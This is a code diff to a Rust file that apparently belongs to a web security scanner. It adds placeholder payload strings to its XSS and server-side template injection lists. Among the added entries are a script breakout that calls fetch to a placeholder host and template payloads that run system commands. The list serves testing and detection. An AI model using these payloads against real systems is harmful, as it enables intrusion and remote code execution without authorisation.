@@ -47,6 +47,8 @@ pub(crate) const XSS: &[&str] = &[
     "<a href=\"http://%65%76il.example/\">{w}</a>",
     "<span datasrc=#{w} datafld=c dataformatas=html></span>",
     "<br size=\"&{document.{w}=true}\">",
+    "{w}\";setTimeout({w},{n})//",
+    "{w}');fetch(`//{h}`);//",
 ];
 
 pub(crate) const TEMPLATE: &[&str] = &[
@@ -106,4 +108,10 @@ pub(crate) const TEMPLATE: &[&str] = &[
     "{{ lookup '{w}' }}",
     "*{T(org.{w}.IOUtils).toString(1)}",
     "{{ request['{w}'] }}",
+    "{w}{{{n}|add:{n}}}",
+    "{{'a'~'b'}}",
+    "<%= elem(System.shell(\"{w}\"), 0) %>",
+    "{{['{w}']|map(\"system\")|join}}",
+    "${7}<#--{w}-->${{n}}",
+    "{{{n}}}{#{w}#}{{{n}}}",
 ];
